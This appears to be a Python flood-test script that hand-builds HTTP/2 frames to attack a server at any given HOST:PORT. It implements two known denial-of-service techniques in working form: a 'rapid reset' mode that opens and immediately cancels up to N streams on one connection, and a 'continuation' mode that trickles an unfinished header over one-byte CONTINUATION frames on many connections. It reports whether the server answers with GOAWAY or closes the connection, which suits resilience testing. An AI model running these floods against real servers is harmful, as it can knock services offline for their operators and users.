#!/usr/bin/env python3
"""Hostile HTTP/2 clients written from the frame layout alone (RFC 9113,
RFC 7541), for the flood tests; nothing here speaks gRPC beyond a path.

  h2flood.py reset HOST:PORT N       N streams opened and reset at once
                                     ("rapid reset"), on one connection
  h2flood.py continuation HOST:PORT BYTES CONNS
                                     a header value of BYTES spread over
                                     1-byte CONTINUATION frames, on CONNS
                                     connections, never finished
Every send is bounded (count and a 30 s socket time-out); prints what the
server answered (GOAWAY or not) and how long the writes took."""
import socket, struct, sys, time

def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload

def hpack_str(b):
    assert len(b) < 127
    return bytes([len(b)]) + b

def request_headers(path):
    h = b"\x83\x86"                          # :method POST, :scheme http
    h += b"\x04" + hpack_str(path)           # :path, literal value
    h += b"\x01" + hpack_str(b"x")           # :authority
    h += b"\x0f\x10" + hpack_str(b"application/grpc")  # content-type
    h += b"\x00" + hpack_str(b"te") + hpack_str(b"trailers")
    return h

def connect(addr):
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=30)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    return s

def read_frames(s, seconds):
    """Frame types the server sent within `seconds` (GOAWAY is 7)."""
    s.settimeout(0.2)
    seen, buf, end = set(), b"", time.time() + seconds
    while time.time() < end:
        try:
            d = s.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not d:
            seen.add("closed")
            break
        buf += d
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            seen.add(buf[3])
            buf = buf[9 + n:]
    return seen

def reset(addr, n):
    s = connect(addr)
    hdr = request_headers(b"/ps.ParameterServer/Status")
    t0, sid, batch, sent, closed = time.time(), 1, [], 0, False
    for i in range(n):
        batch.append(frame(1, 0x4, sid, hdr) + frame(3, 0, sid, struct.pack(">I", 8)))
        sid += 2
        if len(batch) == 1000 or i == n - 1:
            try:
                s.sendall(b"".join(batch))
                sent += len(batch)
            except OSError:
                closed = True
                break
            batch = []
    seen = read_frames(s, 2) if not closed else {"closed"}
    print(f"reset: {sent} of {n} streams opened and reset in {time.time() - t0:.2f} s; "
          f"GOAWAY {'received' if 7 in seen else 'not received'}"
          f"{', connection closed by the server' if 'closed' in seen else ''}")
    s.close()

def continuation(addr, size, conns):
    socks = []
    for _ in range(conns):
        s = connect(addr)
        s.sendall(frame(1, 0, 1, b"\x00" + hpack_str(b"x-big") + b"\x7f" +
                        bytes(_varint(size - 127))))
        socks.append(s)
    t0 = time.time()
    closed = 0
    for i in range(size):
        for s in list(socks):
            try:
                s.sendall(frame(9, 0, 1, b"a"))
            except OSError:
                socks.remove(s)
                closed += 1
        if not socks:
            break
    print(f"continuation: {conns} connection(s), {i + 1} one-byte frames each in "
          f"{time.time() - t0:.2f} s; {closed} closed by the server")
    for s in socks:
        s.close()

def _varint(v):
    out = []
    while v >= 128:
        out.append((v & 0x7f) | 0x80)
        v >>= 7
    out.append(v)
    return out

if __name__ == "__main__":
    if len(sys.argv) >= 4 and sys.argv[1] == "reset":
        reset(sys.argv[2], int(sys.argv[3]))
    elif len(sys.argv) >= 5 and sys.argv[1] == "continuation":
        continuation(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
    else:
        print(__doc__)
        sys.exit(2)
